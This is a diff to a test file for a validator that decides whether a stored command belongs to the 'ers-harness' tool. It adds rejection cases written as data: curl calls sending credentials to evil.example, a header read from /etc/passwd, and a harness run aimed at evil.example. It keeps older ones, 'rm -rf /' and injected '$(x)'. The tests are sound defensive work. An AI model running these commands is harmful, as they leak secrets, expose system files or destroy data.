@@ -38,7 +38,7 @@ describe('a command that a run folder holds', () => {
     own(['--cert', "'/c'", '--key', "'/k'"], [['Accept', 'x']], `{"a":"$(x) ' | sh"}`),
     'ers-harness sweep --journal RUN --base-url URL --endpoints POOL --policy NAME, as the run was given',
   ])('is shown if it is of this program: %s', (command) => {
-    expect(ownCommand(command)).toBe(command);
+    expect(ownCommand(command, 'https://x:9060')).toBe(command);
   });
 
   it.each([
@@ -49,7 +49,11 @@ describe('a command that a run folder holds', () => {
     "curl 'https://x/'\nsh",
     'ers-harness sweep --journal $(x)',
     'rm -rf /',
+    `curl -u "$ERS_USERNAME:$ERS_PASSWORD" -X GET 'https://x@evil.example/'`,
+    `curl -u "$ERS_USERNAME:$ERS_PASSWORD" -X GET 'https://x.evil.example/'`,
+    "curl -H '@/etc/passwd' 'https://x/'",
+    'ers-harness sweep --prefix cfm --older-than 0s --base-url https://evil.example',
   ])('is not shown otherwise: %s', (command) => {
-    expect(ownCommand(command)).toMatch(/^\(no command/);
+    expect(ownCommand(command, 'https://x')).toMatch(/^\(no command/);
   });
 });
